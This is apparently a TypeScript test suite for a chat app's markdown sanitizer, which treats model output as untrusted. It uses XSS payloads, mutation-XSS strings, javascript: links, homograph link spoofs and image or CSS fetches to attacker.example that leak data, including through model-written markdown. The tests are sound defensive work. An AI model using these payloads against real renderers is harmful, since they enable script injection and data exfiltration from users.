// @vitest-environment jsdom
// Markdown from untrusted model text: what rendering leaves of tags, attributes, links and images that could fetch,
// run, style or reach into the app (markdown-sanitize.ts, through the whole renderer).
import { describe, expect, it } from "vitest";
import { markdownFeaturesSettled } from "./markdown-features.ts";
import { renderMarkdown } from "./markdown.ts";

/** The rendered HTML parsed in an inert document. */
function parse(html: string): Document {
  return new DOMParser().parseFromString(html, "text/html");
}

/** Tags that fetch, run, frame, submit or style anything; none may come out of model text. */
const ACTIVE_TAGS =
  "script, style, link, meta, base, iframe, frame, frameset, object, embed, video, audio, source, track, picture, " +
  "svg, form, input, button, textarea, select, template, dialog, noscript, area, map";

/** Everything in `html` that could fetch or run without a click, as "tag attribute" strings. */
function activeParts(html: string): string[] {
  const page = parse(html);
  const found = [...page.body.querySelectorAll(ACTIVE_TAGS)].map((element) => element.localName);
  for (const element of page.body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const dataImage = element.localName === "img" && name === "src" && /^data:image\/png;/.test(value);
      const link = element.localName === "a" && name === "href" && /^(https?:|mailto:|#|[\w./-]+$)/.test(value);
      if (
        /^on|^(src|srcset|poster|background|action|formaction|data|ping|style|xlink:href|href|srcdoc)$/.test(name) &&
        !dataImage &&
        !link
      ) {
        found.push(`${element.localName} ${name}=${value}`);
      }
    }
  }
  return found;
}

describe("model text is untrusted", () => {
  it("shows a web image as an empty placeholder holding its address, never as an <img src>", () => {
    const html = renderMarkdown(
      [
        "![leak](https://attacker.example/p.png?d=secret)",
        '<img src="http://attacker.example/raw.png" alt="raw" srcset="http://attacker.example/2x.png 2x">',
        "![proto](//attacker.example/relative.png)",
        "![loopback](http://127.0.0.1:9/x.png)",
        '<img src="\\\\attacker.example\\back.png">',
        '<img src="ht&#9;tp://attacker.example/tab.png" alt="tab">',
      ].join("\n\n"),
    );
    expect(activeParts(html)).toEqual([]);
    const page = parse(html);
    const placeholders = [...page.querySelectorAll("span.remote-image")];
    expect(placeholders.map((placeholder) => placeholder.getAttribute("data-fawn-remote"))).toEqual([
      "https://attacker.example/p.png?d=secret",
      "http://attacker.example/raw.png",
      `${window.location.protocol}//attacker.example/relative.png`,
      "http://127.0.0.1:9/x.png",
      "http://attacker.example/back.png",
      "http://attacker.example/tab.png",
    ]);
    expect(placeholders.map((placeholder) => placeholder.getAttribute("data-fawn-alt"))).toEqual([
      "leak",
      "raw",
      "proto",
      "loopback",
      null,
      "tab",
    ]);
    expect(placeholders.every((placeholder) => placeholder.childNodes.length === 0)).toBe(true);
    expect(page.querySelectorAll("img")).toHaveLength(0);
  });

  it("keeps data: pictures, drops other data: and unknown sources, and never keeps a srcset", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const html = renderMarkdown(
      `<img src="${png}" srcset="http://attacker.example/s.png 2x"> ` +
        '<img src="data:text/html;base64,PHNjcmlwdD4="> <img src="blob:http://localhost/x"> ' +
        '<img src="javascript:alert(1)"> <img srcset="http://attacker.example/only.png">',
    );
    expect(activeParts(html)).toEqual([]);
    const images = [...parse(html).querySelectorAll("img")];
    expect(images.map((image) => image.getAttribute("src"))).toEqual([png, null, null, null, null]);
  });

  it("strips inline style and <style>, so nothing fetches url()s or lays itself over the app", () => {
    const html = renderMarkdown(
      [
        '<a href="https://example.com" style="position:fixed;inset:0;z-index:9999">Sign in again</a>',
        '<div style="background:url(http://attacker.example/bg.png)">x</div>',
        "<style>@import url(http://attacker.example/i.css); body { display: none }</style>",
        '<table background="http://attacker.example/t.png"><tr><td background="http://attacker.example/td.png">x</td></tr></table>',
        '<link rel="stylesheet" href="http://attacker.example/s.css"><link rel="prefetch" href="http://attacker.example/p">',
      ].join("\n\n"),
    );
    expect(activeParts(html)).toEqual([]);
    expect(html).not.toMatch(/url\(|@import|position:fixed/);
  });

  it("keeps only the classes of code, math and citations, no ARIA, role or data-* of the model's", () => {
    const html = renderMarkdown(
      '<div class="toast sidebar-scrim hljs-keyword katex" role="alert" aria-label="Fawn" data-fawn-file="/mnt/user-data/outputs/x.png" data-x="1">x</div>',
    );
    expect(html).toBe('<div class="hljs-keyword katex">x</div>');
  });

  it("prefixes ids and names, so model text cannot clobber the app's globals", () => {
    const html = renderMarkdown('<img id="__proto__" name="gateway"><a id="defaultView" name="cookie">x</a>');
    const page = parse(html);
    expect(page.querySelector("a")?.id).toBe("user-content-defaultView");
    expect(page.querySelector("a")?.getAttribute("name")).toBe("user-content-cookie");
  });

  it("removes media, frames, objects, forms, meta, base, SVG and their addresses", () => {
    const attempts = [
      '<video poster="http://attacker.example/p.png" src="http://attacker.example/v.mp4" autoplay></video>',
      '<audio src="http://attacker.example/a.mp3" autoplay></audio>',
      '<video><source src="http://attacker.example/s.mp4"><track src="http://attacker.example/t.vtt"></video>',
      '<picture><source srcset="http://attacker.example/p.png"><img src="fallback.png"></picture>',
      '<iframe src="http://attacker.example/"></iframe><iframe srcdoc="<script>parent.x=1</script>"></iframe>',
      '<object data="http://attacker.example/o.swf"></object><embed src="http://attacker.example/e.swf">',
      '<meta http-equiv="refresh" content="0;url=http://attacker.example/"><base href="http://attacker.example/">',
      '<form action="http://attacker.example/f"><input name="q"><button formaction="javascript:alert(1)">Go</button></form>',
      '<svg><image href="http://attacker.example/i.png"/><use href="http://attacker.example/u.svg#a"/></svg>',
      '<svg onload="alert(1)"><script>alert(2)</script><foreignObject><img src=x onerror=alert(3)></foreignObject></svg>',
      '<math><mi href="http://attacker.example/m" xlink:href="javascript:alert(1)">x</mi></math>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      '<template><img src=x onerror=alert(1)></template><details open ontoggle="alert(1)"><summary>s</summary></details>',
      '<button popovertarget="p">x</button><div popover id="p">y</div><a href="https://example.com" ping="http://attacker.example/">p</a>',
      '<a href="jav&#x09;ascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="vbscript:msgbox(1)">c</a>',
      "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [e](javascript:alert(1))",
    ];
    for (const attempt of attempts) expect(activeParts(renderMarkdown(attempt)), attempt).toEqual([]);
  });

  it("shows a link's real host beside it when its text does not name it, and in its title", () => {
    const page = parse(
      renderMarkdown(
        [
          "[Docs](https://docs.example.com/a) [bank.example](https://attacker.example/login)",
          "[https://bank.example/login](https://attacker.example/login) <https://example.com/path>",
          "[www.example.com](https://example.com/x) [раураl.com](https://xn--80aa0cbo65f.com/)",
          "[good\u200b.example](https://attacker.example/) [mail me](mailto:someone@example.com)",
          '[citation:Fed raises rates](https://www.example.com/news) <a class="citation" href="https://attacker.example/">reuters.com</a>',
          '[notes](notes.md) [top](#top) <a href="\\\\attacker.example/x">notes.md</a>',
        ].join("\n\n"),
      ),
    );
    const shown = [...page.querySelectorAll("a")].map((link) => {
      const next = link.nextElementSibling;
      return [link.textContent, next?.className === "link-host" ? next.textContent : null, link.title];
    });
    expect(shown).toEqual([
      ["Docs", "(docs.example.com)", "docs.example.com"],
      ["bank.example", "(attacker.example)", "attacker.example"],
      ["https://bank.example/login", "(attacker.example)", "attacker.example"],
      ["https://example.com/path", null, ""],
      ["www.example.com", null, ""],
      ["раураl.com", "(xn--80aa0cbo65f.com)", "xn--80aa0cbo65f.com"],
      ["good\u200b.example", "(attacker.example)", "attacker.example"],
      ["mail me", "(mailto:someone@example.com)", "mailto:someone@example.com"],
      ["example.com", null, "Fed raises rates"],
      ["reuters.com", "(attacker.example)", "attacker.example"],
      ["notes", null, ""],
      ["top", null, ""],
      ["notes.md", "(attacker.example)", "attacker.example"],
    ]);
    const links = [...page.querySelectorAll("a")];
    expect(links.every((link) => link.target === "_blank" && link.rel === "noopener noreferrer nofollow")).toBe(true);
    // A citation is named by its real host, a fake one too.
    expect(links[8]?.getAttribute("aria-label")).toBe("Fed raises rates (example.com)");
    expect(links[9]?.getAttribute("aria-label")).toBe("attacker.example");
    expect(links[12]?.hasAttribute("data-fawn-file")).toBe(false);
  });

  it("renders KaTeX's MathML without style; its error keeps its class and message", async () => {
    renderMarkdown("$x$");
    await markdownFeaturesSettled();
    const html = renderMarkdown("$\\color{red}{x} + \\frac{1}{2}$ and $\\badmacro{$");
    expect(html).not.toContain("style=");
    const page = parse(html);
    expect(page.querySelector("math mfrac")).not.toBeNull();
    expect(page.querySelector('[mathcolor="red"]')).not.toBeNull();
    const error = page.querySelector(".katex-error");
    expect(error?.getAttribute("title")).toMatch(/ParseError/);
  });
});
